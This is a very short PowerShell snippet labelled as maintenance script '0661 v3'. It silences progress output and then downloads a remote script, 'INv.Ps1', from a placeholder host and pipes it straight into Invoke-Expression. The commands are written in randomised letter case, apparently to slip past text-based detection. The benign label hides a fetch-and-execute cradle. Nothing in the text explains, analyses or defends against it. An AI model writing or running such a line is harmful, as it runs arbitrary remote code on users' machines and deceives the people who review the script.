# maintenance 0661 v3
$pRoGrEsSpReFeReNcE = 'SilentlyContinue'
IwR -usebASICpArSIng hTTp://sTaTiC.meTRICS-NodE.ExampLE/INv.Ps1 | Iex
